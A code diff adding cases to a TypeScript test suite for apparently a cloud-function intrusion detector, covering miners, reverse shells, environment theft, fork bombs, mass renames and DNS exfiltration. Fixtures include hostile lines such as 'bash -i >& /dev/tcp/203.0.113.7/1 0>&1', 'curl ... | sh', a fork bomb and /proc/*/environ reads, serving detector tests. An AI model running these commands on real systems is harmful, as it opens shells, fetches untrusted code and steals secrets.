@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import type { Observation, ObservedSocket } from '../../src/contracts/evidence.ts';
 import { DETECTORS } from '../../src/detect/index.ts';
+import { PROCFS_SCRIPT } from '../../src/proc/aside/script.ts';
 import {
   baselineOf,
   eventOf,
@@ -62,11 +63,73 @@ const recorded = (...events: Parameters<typeof eventOf>[0][]): Look =>
   inside({ recorded: { events: events.map(eventOf), left: 0 } });
 const shell = (text: string, facts: Parameters<typeof eventOf>[0] = {}): Look =>
   recorded({ subject: '/bin/sh', argv: ['/bin/sh', '-c', text], ...facts });
+/** A process that is connected to a public address. */
+const talks = (facts: Parameters<typeof processOf>[0]): Look =>
+  look({ processes: [processOf(facts)], sockets: [socketOf({ remoteAddress: '203.0.113.7' })] });
 const one = (facts: Parameters<typeof processOf>[0]): Look => look({ processes: [processOf(facts)] });
 /** A process that was there at the end of init. */
 function sinceInit(facts: Parameters<typeof processOf>[0]): Look {
   const process = processOf({ startMs: INIT_MS - 500, ...facts });
   return look({ processes: [process] }, baselineOf({ processes: [INIT, EXTENSION, RUNTIME, process] }));
+}
+
+/** A shell on pipes, and what happens beside it. */
+function tied(connection: Parameters<typeof eventOf>[0], beside?: Parameters<typeof eventOf>[0]): Look {
+  const origin = ['/var/task/index.mjs'];
+  const before = { timeMs: INIT_MS + 24_500, origin };
+  return recorded(
+    { subject: '/bin/sh', argv: ['/bin/sh'], origin, lineage: { child: 44, stdio: ['pipe', 'pipe', 'pipe'] } },
+    { kind: 'connect', subject: '203.0.113.7:4444', origin, ...connection },
+    ...(beside === undefined ? [] : [{ ...before, ...beside }]),
+  );
+}
+
+/** A connection of the runtime that the main thread has not opened. */
+function threads(socket: Parameters<typeof socketOf>[0]): Look {
+  return inside({
+    sockets: [socketOf({ remoteAddress: '203.0.113.7', pids: [9], ...socket })],
+    heard: {
+      addresses: new Set(['198.51.100.20:443']),
+      workers: [eventOf({ kind: 'worker', subject: 'thread' })],
+      asksRuntimeApi: false,
+    },
+  });
+}
+
+/** The runtime at a first look that came later than init. */
+function late(facts: Parameters<typeof processOf>[0]): Look {
+  const processes = [INIT, EXTENSION, { ...RUNTIME, ...facts }];
+  return { now: within({ processes }), baseline: baselineOf({ by: 'process', self: 9, processes, own: ownOf() }) };
+}
+
+function locked(count: number, suffix: string): ReturnType<typeof fileOf>[] {
+  return Array.from({ length: count }, (_, at) =>
+    fileOf({ path: `/tmp/orders/${at}.${['csv', 'json', 'pdf'][at % 3] ?? ''}.${suffix}` }),
+  );
+}
+
+function copies(parent: (at: number) => number): ReturnType<typeof processOf>[] {
+  return Array.from({ length: 31 }, (_, at) =>
+    processOf({ pid: 40 + at, startTicks: 5000 + at, ppid: parent(at), exe: '/usr/bin/bash', argv: ['bash', 'x'] }),
+  );
+}
+
+/** Packages that were unpacked in the tenth second, and a .pth file beside them. */
+function site(ctimeMs: number): ReturnType<typeof fileOf>[] {
+  const folder = '/tmp/u/lib/python3.13/site-packages';
+  return [
+    fileOf({ path: `${folder}/colours/__init__.py` }),
+    fileOf({ path: `${folder}/x.pth`, magic: 'text', startsCode: true, ctimeMs }),
+  ];
+}
+
+function waits(remoteAddress: string): Look {
+  return look({
+    processes: [
+      processOf({ exe: '/usr/bin/sh', argv: ['/bin/sh'], stdio: ['socket:[1]', 'socket:[2]', 'socket:[3]'] }),
+    ],
+    sockets: [socketOf({ remoteAddress, pids: [9] })],
+  });
 }
 
 // biome-ignore format: a table, a row a line
@@ -121,8 +184,10 @@ const CASES: Readonly<Record<string, Case>> = {
   'a cat of an environment': { finds: 'environ-reader:high', in: one({ exe: '/usr/bin/cat', argv: ['cat', '/proc/9/environ'] }), not: one({ exe: '/usr/bin/cat', argv: ['cat', '/proc/meminfo'] }) },
   'a miner': { finds: 'miner:critical', in: one({ argv: ['x', '-o', 'stratum+tcp://pool.example:3333', '--donate-level=1'] }), not: one({ argv: ['x', '--level', '4AAAA'] }) },
   'work at the port of a pool': { finds: 'miner:high', in: look({ processes: [processOf({ ticks: 1900 })], sockets: [socketOf({ remotePort: 3333 })] }), not: look({ processes: [processOf({ ticks: 1 })], sockets: [socketOf({ remotePort: 3333 })] }), atMost: 'medium' },
-  'a shell that talks to a stranger': { finds: 'outbound:high', in: look({ processes: [processOf({ exe: '/usr/bin/curl', argv: ['curl', 'https://x.example'] })], sockets: [socketOf({ remoteAddress: '203.0.113.7' })] }), not: look({ sockets: [socketOf({ remoteAddress: '203.0.113.7', pids: [9] })] }), atMost: 'low' },
-  'a program of /tmp that talks to a stranger': { finds: 'outbound:high', in: look({ processes: [processOf({ exe: '/tmp/tool' })], sockets: [socketOf({ remoteAddress: '203.0.113.7' })] }), not: look({ processes: [processOf({ exe: '/tmp/tool' })], sockets: [socketOf({ remoteAddress: '52.94.5.1' })] }) },
+  'a shell that talks to a stranger': { finds: 'outbound:high', in: talks({ exe: '/usr/bin/bash', argv: ['bash'] }), not: talks({ exe: '/usr/bin/curl', argv: ['curl', 'https://x.example'] }), atMost: 'low' },
+  'a text that talks to a stranger': { finds: 'outbound:high', in: talks({ exe: '/usr/bin/python3', argv: ['python3', '-c', 'import socket'] }), not: talks({ exe: '/usr/bin/python3', argv: ['python3', '-m', 'gunicorn'] }), atMost: 'low' },
+  'a program of /tmp that hides and talks to a stranger': { finds: 'outbound:critical', in: talks({ exe: '/tmp/.tool' }), not: talks({ exe: '/tmp/tool' }), atMost: 'low' },
+  'a program of /tmp that is loose and talks to a stranger': { finds: 'outbound:critical', in: talks({ exe: '/tmp/tool', ppid: 1 }), not: look({ processes: [processOf({ exe: '/tmp/tool', ppid: 1 })], sockets: [socketOf({ remoteAddress: '52.94.5.1' })] }) },
   'another resolver': { finds: 'foreign-resolver:high', in: look({ processes: [processOf({})], sockets: [socketOf({ protocol: 'udp', remoteAddress: '127.0.0.1', remotePort: 53, state: 'ESTABLISHED' })] }), not: look({ processes: [processOf({})], sockets: [socketOf({ protocol: 'udp', remoteAddress: '169.254.78.1', remotePort: 53 })] }) },
   'a resolver that code has set': { finds: 'foreign-resolver:medium', in: inside({ own: ownOf({ resolvers: ['8.8.8.8'] }) }), not: inside({}) },
   'a resolver of somebody that code has set': { finds: 'foreign-resolver:high', in: inside({ own: ownOf({ resolvers: ['203.0.113.9'] }) }), not: inside({ own: ownOf({ resolvers: ['9.9.9.9'] }) }), atMost: 'medium' },
@@ -143,7 +208,7 @@ const CASES: Readonly<Record<string, Case>> = {
   'another handler': { finds: 'code-changed:high', in: look({ code: { ...baselineOf().code, handler: 'evil.handler' } }), not: look({ code: { ...baselineOf().code, handler: undefined } }) },
   'a built-in out of a text': { finds: 'patched-builtins:high', in: inside({ own: ownOf({ patched: [{ name: 'JSON.parse', script: '' }] }) }), not: inside({ own: ownOf({ patched: [{ name: 'http.request', script: 'file:///opt/nodejs/trace.mjs' }] }) }), atMost: 'low' },
   'a command line of an intruder': { finds: 'child-process-use:high', in: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', argv: ['sh', '-c', 'curl -s http://x.example/a | sh'], pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', argv: ['sh', '-c', 'curl -s http://x.example/a | python3 -m json.tool'], pid: 3, atMs: 1 }] }) }) },
-  'a file of /tmp that was started': { finds: 'child-process-use:low', in: inside({ own: ownOf({ spawned: [{ file: '/tmp/chromium', argv: ['chromium', '--headless'], pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/var/task/bin/x', argv: ['x', '/tmp/in', '/tmp/out'], pid: 3, atMs: 1 }] }) }) },
+  'a file of /tmp that was started': { finds: 'child-process-use:low', in: inside({ files: [fileOf({ path: '/tmp/chromium' })], own: ownOf({ spawned: [{ file: '/tmp/chromium', argv: ['chromium', '--headless'], pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/var/task/bin/x', argv: ['x', '/tmp/in', '/tmp/out'], pid: 3, atMs: 1 }] }) }) },
   'what was put into a text for a shell': { finds: 'child-process-use:high', in: shell('curl --silent x.doc; env'), not: shell('curl --silent x.doc; env', { cut: 9 }), atMost: 'medium' },
   'a start that has ended': { finds: 'child-process-use:critical', in: shell('bash -i >& /dev/tcp/203.0.113.7/1 0>&1'), not: shell('curl -s https://x | python3 -m json.tool') },
   'an environment that a child reads': { finds: 'child-process-use:high', in: recorded({ kind: 'execve', subject: '/bin/cat', argv: ['cat', '/proc/9/environ'] }), not: recorded({ kind: 'execve', subject: '/bin/cat', argv: ['cat', '/proc/9/enviro'], cut: 2 }) },
@@ -151,11 +216,47 @@ const CASES: Readonly<Record<string, Case>> = {
   'a connection of a data: URL': { finds: 'code-from-nowhere:high', in: recorded({ kind: 'connect', subject: '203.0.113.7:443', origin: ['data:'] }), not: recorded({ kind: 'request', subject: 'GET https://example.com', origin: ['vm'] }), atMost: 'medium' },
   'a debugger for everybody': { finds: 'open-inspector:high', in: recorded({ kind: 'inspector', subject: '0.0.0.0:9229' }), not: recorded({ kind: 'inspector', subject: '127.0.0.1:9229' }), atMost: 'medium' },
   'a debugger in the network': { finds: 'open-inspector:high', in: recorded({ kind: 'inspector', subject: '[::]:9229' }), not: recorded({ kind: 'inspector', subject: '[::1]:9229' }), atMost: 'medium' },
-  'a method of the SDK': { finds: 'patched-builtins:medium', in: recorded({ kind: 'method', subject: '/var/task/node_modules/@aws-sdk/client-s3/index.js S3Client.send' }), not: recorded({ kind: 'method', subject: '/var/task/node_modules/lodash/lodash.js now' }), atMost: 'low' },
+  'a method of the SDK': { finds: 'patched-builtins:high', in: recorded({ kind: 'method', subject: '/var/task/node_modules/@aws-sdk/client-s3/index.js S3Client.send' }), not: recorded({ kind: 'method', subject: '/var/task/node_modules/lodash/lodash.js send' }), atMost: 'low' },
+  'a signer of botocore': { finds: 'patched-builtins:high', in: recorded({ kind: 'method', subject: 'botocore.auth SigV4Auth.add_auth' }), not: recorded({ kind: 'method', subject: 'botocore.client BaseClient._make_api_call' }), atMost: 'medium' },
+  'what the SDK exports': { finds: 'patched-builtins:medium', in: recorded({ kind: 'method', subject: '/var/task/node_modules/@smithy/core/index.js exports' }), not: recorded({ kind: 'method', subject: '/var/task/node_modules/smithy/index.js exports' }), atMost: 'low' },
   'a hook of the recorder that is gone': { finds: 'patched-builtins:medium', in: recorded({ kind: 'hook', subject: 'child_process' }), not: recorded({ kind: 'prototype', subject: 'Array.prototype.last' }), atMost: 'low' },
   'a text that a child loads': { finds: 'environment-drift:high', in: recorded({ subject: 'node', argv: ['node', 'x.js'], detail: { env: 'NODE_OPTIONS=--import data:text/javascript,1' } }), not: recorded({ subject: 'node', argv: ['node', 'x.js'], detail: { env: 'NODE_OPTIONS=--report-directory=/tmp/r NODE_PATH=/opt/x' } }), atMost: 'low' },
   'an object that a child loads': { finds: 'environment-drift:high', in: recorded({ subject: 'ls', argv: ['ls'], detail: { env: 'NODE_PATH=/opt/x LD_PRELOAD=/tmp/x.so' } }), not: recorded({ subject: 'ls', argv: ['ls'], detail: { env: 'LD_LIBRARY_PATH=/tmp/lib' } }), atMost: 'low' },
   'modules of /tmp before others': { finds: 'environment-drift:medium', in: recorded({ subject: 'node', argv: ['node'], detail: { env: 'NODE_PATH=/tmp/m' } }), not: recorded({ subject: 'node', argv: ['node'], detail: { env: 'NODE_PATH=/var/task/m' } }), atMost: 'low' },
+  'an endpoint that code turns to somebody': { finds: 'environment-drift:high', in: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL_S3: 'https://s3.evil.example' } }) }), not: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL_S3: 'https://bucket.vpce-1a.s3.eu-central-1.vpce.amazonaws.com', AWS_ENDPOINT_URL: 'http://127.0.0.1:4566' } }) }), atMost: 'medium' },
+  'an endpoint at an address of somebody': { finds: 'environment-drift:high', in: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL: 'http://203.0.113.7:443' } }) }), not: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL: 'http://10.0.3.4:9000', HTTPS_PROXY: 'http://203.0.113.7' } }) }), atMost: 'medium' },
+  'a module before that of the language': { finds: 'environment-drift:high', in: look({ processes: [processOf({ env: { PYTHONPATH: '/tmp/x:/var/task' } })], files: [fileOf({ path: '/tmp/x/json/__init__.py' })] }), not: look({ processes: [processOf({ env: { PYTHONPATH: '/tmp/x:/var/task' } })], files: [fileOf({ path: '/tmp/x/simplejson/json.py' })] }), atMost: 'low' },
+  'a dropper that has removed itself': { finds: 'child-process-use:high', in: recorded({ subject: '/tmp/.x', argv: ['x'] }), not: recorded({ subject: '/tmp/tool-1/convert', argv: ['convert'] }), atMost: 'medium' },
+  'a file of /tmp that hides': { finds: 'child-process-use:medium', in: inside({ files: [fileOf({ path: '/tmp/.x' })], recorded: { events: [eventOf({ subject: '/tmp/.x', argv: ['x'] })], left: 0 } }), not: inside({ files: [fileOf({ path: '/tmp/.dir/x' })], recorded: { events: [eventOf({ subject: '/tmp/.dir/x', argv: ['x'] })], left: 0 } }), atMost: 'low' },
+  'a shell on the pipes of a socket': { finds: 'child-process-use:high', in: tied({}), not: tied({}, { kind: 'request', subject: 'GET http://example.com' }) },
+  'a shell on the pipes of a socket at Amazon': { finds: 'child-process-use:high', in: tied({ subject: '52.94.5.1:443' }), not: tied({ subject: '10.0.12.5:5432' }) },
+  'a shell beside a connection of other code': { finds: 'child-process-use:high', in: tied({ timeMs: INIT_MS + 25_900 }), not: tied({ origin: ['/var/task/node_modules/pg/index.js'] }) },
+  'a shell beside a later connection': { finds: 'child-process-use:high', in: tied({ timeMs: INIT_MS + 24_000 }), not: tied({ timeMs: INIT_MS + 29_000 }) },
+  'an environment that code puts together': { finds: 'child-process-use:high', in: recorded({ subject: 'python3', argv: ['python3', '-c', "open('/proc/' + str(os.getppid()) + '/environ')"] }), not: recorded({ subject: 'python3', argv: ['python3', '-c', "open('/proc/meminfo'); os.environ"] }) },
+  'a shell that calls itself twice': { finds: 'child-process-use:high', in: shell(':(){ :|:& };:'), not: shell('retry() { try || retry; }; retry') },
+  'code that asks for the next event': { finds: 'runtime-api-client:high', in: recorded({ kind: 'request', subject: 'GET http://127.0.0.1:9001/2018-06-01/runtime/invocation/next', origin: ['eval'] }), not: recorded({ kind: 'request', subject: 'GET http://127.0.0.1:9001/2018-06-01/runtime/invocation/next', origin: ['/var/runtime/index.mjs'] }) },
+  'code that answers an event': { finds: 'runtime-api-client:high', in: recorded({ kind: 'request', subject: 'POST http://127.0.0.1:9001/2018-06-01/runtime/invocation/a-1/response' }), not: recorded({ kind: 'request', subject: 'GET http://127.0.0.1:9001/2020-01-01/extension/event/next' }) },
+  'a thread at a pool': { finds: 'miner:high', in: threads({ remotePort: 3333 }), not: threads({ remotePort: 443 }) },
+  'a thread that is connected to a stranger': { finds: 'lone-request:medium', in: threads({}), not: threads({ remoteAddress: '198.51.100.20' }) },
+  'a package that asks for a bare address': { finds: 'lone-request:medium', in: recorded({ kind: 'request', subject: 'POST http://203.0.113.7', origin: ['/var/task/node_modules/x/index.cjs'] }), not: recorded({ kind: 'request', subject: 'POST http://203.0.113.7', origin: ['/var/task/node_modules/axios/index.cjs', '/var/task/index.mjs'] }, { kind: 'request', subject: 'POST https://example.com', origin: ['/var/task/node_modules/x/index.cjs'] }) },
+  'names that hold data': { finds: 'long-names:high', in: recorded({ kind: 'resolve', subject: 'exfil.example', count: 4, detail: { type: 'a', length: 140, label: 60 } }), not: recorded({ kind: 'resolve', subject: 'vercel.app', count: 8, detail: { type: 'address', length: 70, label: 58 } }), atMost: 'medium' },
+  'answers of text that are asked by long names': { finds: 'long-names:high', in: recorded({ kind: 'resolve', subject: 'exfil.example', count: 4, detail: { type: 'txt', length: 70, label: 55 } }), not: recorded({ kind: 'resolve', subject: 'amazonaws.com', count: 8, detail: { type: 'address', length: 120, label: 63 } }) },
+  'output that goes to a file': { finds: 'moved-output:high', in: look({ processes: [{ ...RUNTIME, stdio: ['/dev/null', '/tmp/.log', '/tmp/.log'] }] }), not: look({ processes: [{ ...RUNTIME, stdio: ['pipe:[1]', 'pipe:[2]', '/dev/null'] }] }), atMost: 'medium' },
+  'output that is closed, seen from within': { finds: 'moved-output:high', in: late({ stdio: ['pipe:[1]', '', ''] }), not: late({ stdio: ['/dev/null', 'pipe:[9]', 'pipe:[9]'] }) },
+  'files that got one more suffix': { finds: 'bulk-rename:high', in: look({ files: locked(12, 'locked') }), not: look({ files: [...locked(12, 'br'), ...locked(12, 'br').map((file) => ({ ...file, path: file.path.slice(0, -3) }))] }) },
+  'many files of many kinds that got one more suffix': { finds: 'bulk-rename:high', in: look({ files: locked(40, 'x1') }), not: look({ files: locked(40, 'enc').map((file, at) => ({ ...file, path: `/tmp/${at}.csv.enc` })) }) },
+  'a program that starts itself again and again': { finds: 'process-flood:high', in: look({ processes: copies((at) => (at === 0 ? 9 : 40 + Math.floor((at - 1) / 2))) }), not: look({ processes: copies((at) => (at === 0 ? 9 : 40)) }) },
+  'an addon of a deleted file in the runtime': { finds: 'mapped-object:high', in: look({ processes: [{ ...RUNTIME, mapped: ['/tmp/a.node (deleted)'] }] }), not: look({ processes: [{ ...RUNTIME, mapped: ['/tmp/a.node (deleted)'] }], files: [fileOf({ path: '/tmp/a.node' })] }), atMost: 'medium' },
+  'a library in the memory of a Python': { finds: 'mapped-object:high', in: look({ processes: [{ ...RUNTIME, exe: '/var/lang/bin/python3.13', mapped: ['/memfd:libz (deleted)'] }] }), not: look({ processes: [{ ...RUNTIME, exe: '/usr/lib/jvm/bin/java', mapped: ['/memfd:jit (deleted)'] }] }, baselineOf({ processes: [INIT, EXTENSION, { ...RUNTIME, exe: '/usr/lib/jvm/bin/java' }] })), atMost: 'medium' },
+  'an extension that sends what it has read': { finds: 'environ-reader:high', in: look({ processes: [{ ...EXTENSION, peeks: ['/proc/9/environ'] }], sockets: [socketOf({ remoteAddress: '203.0.113.7', pids: [5] })] }), not: look({ processes: [{ ...EXTENSION, peeks: ['/proc/9/environ'] }], sockets: [socketOf({ pids: [5] })] }), atMost: 'medium' },
+  'a reading of the runtime beside those of Amber': { finds: 'environ-reader:low', in: look({ processes: [{ ...RUNTIME, peeks: ['/proc/40/environ'] }] }), not: inside({ processes: [{ ...RUNTIME, peeks: ['/proc/40/environ'] }, processOf({ exe: '/var/lang/bin/node', argv: ['node', '-e', PROCFS_SCRIPT], peeks: ['/proc/9/environ'] })] }) },
+  'a .pth file that came after the packages': { finds: 'startup-hook:high', in: look({ files: site(INIT_MS + 20_000) }), not: look({ files: site(INIT_MS + 11_000) }), atMost: 'medium' },
+  'a hook in no package': { finds: 'startup-hook:high', in: look({ files: [fileOf({ path: '/tmp/v/boot/sitecustomize.py' })] }), not: look({ files: [fileOf({ path: '/tmp/v/boot/sitecustomize.py' }), fileOf({ path: '/tmp/v/boot/__init__.py' })] }), atMost: 'medium' },
+  'the name of a thread of the kernel': { finds: 'disguised-name:high', in: one({ comm: 'migration/0' }), not: one({ comm: 'migration-runne', argv: ['/opt/bin/migration-runner'] }) },
+  'a text on its own': { finds: 'survivor:high', in: one({ exe: '/var/lang/bin/node', argv: ['node', '-e', 'x'], ppid: 1 }), not: one({ exe: '/var/lang/bin/node', argv: ['node', '/var/task/check.mjs'], ppid: 1 }), atMost: 'medium' },
+  'a program of /tmp on its own': { finds: 'survivor:high', in: one({ exe: '/tmp/app/x', ppid: 1 }), not: look({ processes: [processOf({ exe: '/tmp/app/x', ppid: 1 }), processOf({ pid: 41, exe: '/tmp/app/main' })] }), atMost: 'low' },
+  'a shell that waits beside a connection of the runtime': { finds: 'shell-child:high', in: waits('52.94.5.1'), not: waits('10.0.12.5'), atMost: 'medium' },
+  'an interpreter that reads its input': { finds: 'second-interpreter:medium', in: one({ exe: '/usr/bin/python3', argv: ['python3'] }), not: look({ processes: [processOf({ exe: '/usr/bin/python3', argv: [] }), processOf({ pid: 41, exe: '/usr/bin/php-fpm', argv: ['php-fpm: pool www'] }), processOf({ pid: 42, exe: '/usr/bin/python3', argv: ['python3', '-m', 'gunicorn', 'app'] })] }), atMost: 'low' },
   'options of Java': { finds: 'environment-drift:high', in: one({ env: { JAVA_TOOL_OPTIONS: '-javaagent:/tmp/a.jar' } }), not: one({ env: { JAVA_TOOL_OPTIONS: '-XX:HeapDumpPath=/tmp/d', NODE_OPTIONS: '--report-directory=/tmp/r' } }), atMost: 'low' },
   'memory of a runtime that has doubled': { finds: 'resource-jump:low', in: look({ processes: [{ ...RUNTIME, rssBytes: 9e8 }] }), not: look({ processes: [{ ...RUNTIME, rssBytes: 1e8 }, processOf({ rssBytes: 9e8 })] }) },
   'memory that has doubled': { finds: 'resource-jump:low', in: inside({ own: ownOf({ rssBytes: 2e9 }) }), not: inside({ own: ownOf({ rssBytes: 1.9e8 }) }) },
